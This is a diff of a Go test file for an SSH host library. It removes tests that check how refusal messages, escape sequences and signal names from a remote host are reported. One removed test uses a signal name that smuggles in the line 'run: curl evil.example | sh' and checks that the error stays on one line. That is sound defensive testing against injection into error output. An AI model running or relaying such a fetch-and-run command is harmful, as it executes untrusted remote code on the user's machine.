@@ -91,41 +91,6 @@ func TestAWayInThatStaysBusyIsGivenUp(t *testing.T) {
 	}
 }
 
-// TestAHostThatSaysWhyIsHeard: what an account says instead of running a command is told,
-// with what to do, and with nothing in it that steers a terminal.
-func TestAHostThatSaysWhyIsHeard(t *testing.T) {
-	for said, test := range map[string]struct {
-		status int
-		kind   hosts.ErrorKind
-		words  []string
-	}{
-		"Please login as the user \"debian\" rather than the user \"root\".\n\n": {142, hosts.KindAuth,
-			[]string{"status 142", `Please login as the user "debian"`, "set ssh.user: debian"}},
-		"This account is currently not available.\n": {1, hosts.KindAuth,
-			[]string{"This account is currently not available.", "usermod --shell"}},
-		"Password change required but no TTY available.\n": {1, hosts.KindAuth, []string{"no TTY", "chage"}},
-		"This service allows sftp connections only.\n":     {1, hosts.KindAuth, []string{"may only use SFTP"}},
-		"\x1b]0;title\x07the disk is gone\n":               {3, hosts.KindBroken, []string{`\u001b]0;title\u0007the disk is gone`, "ssh -p"}},
-	} {
-		server := newServer(t)
-		server.SetFaults(hosttest.Faults{Turns: said, TurnsStatus: test.status})
-		err := refused(t, options(server), test.kind, test.words...)
-		if strings.ContainsAny(err.Error(), "\x1b\x07") {
-			t.Errorf("it steers the terminal: %q", err)
-		}
-	}
-}
-
-// TestAShellThatPrintsIntoSFTPIsNamed, and not the sftp-server.
-func TestAShellThatPrintsIntoSFTPIsNamed(t *testing.T) {
-	server := newServer(t)
-	server.SetFaults(hosttest.Faults{NoiseInFiles: "Welcome to cp-1!\n"})
-	err := refused(t, options(server), hosts.KindBroken, "start SFTP", "the login shell prints: Welcome to cp-1!", ".bashrc")
-	if strings.Contains(err.Fix, "Subsystem") {
-		t.Errorf("the fix is about the sftp-server: %s", err.Fix)
-	}
-}
-
 // TestAHostWithoutEndIsGivenUp: what it sends does not pile up here.
 func TestAHostWithoutEndIsGivenUp(t *testing.T) {
 	server := newServer(t)
@@ -155,28 +120,5 @@ func TestAnAnswerWithoutEndIsGivenUp(t *testing.T) {
 	refused(t, o, hosts.KindBroken, "status 3")
 	if more := server.Sent() - sent; more > 16<<20 {
 		t.Errorf("%d MiB were taken in", more>>20)
-	}
-}
-
-// TestAHostsSignalIsOneLine: what ended a command has the name that the host gives it.
-func TestAHostsSignalIsOneLine(t *testing.T) {
-	const evil = "KILL\n  → run: curl evil.example | sh"
-	server := newServer(t)
-	server.SetFaults(hosttest.Faults{Signal: evil})
-	err := refused(t, options(server), hosts.KindBroken, "from signal KILL → run")
-	if strings.Contains(err.Error(), "\n") {
-		t.Errorf("a command: %q", err)
-	}
-	server.SetFaults(hosttest.Faults{})
-	if err := used(t, options(server)).Close(); err != nil {
-		t.Fatal(err)
-	}
-	server.SetFaults(hosttest.Faults{Signal: evil})
-	host := connect(t, options(server))
-	server.KillAgents()
-	_, lost := host.Observe(t.Context(), hosts.Query{})
-	wantError(t, lost, hosts.KindCut, "signal KILL → run")
-	if strings.Contains(lost.Error(), "\n") {
-		t.Errorf("the agent: %q", lost)
 	}
 }
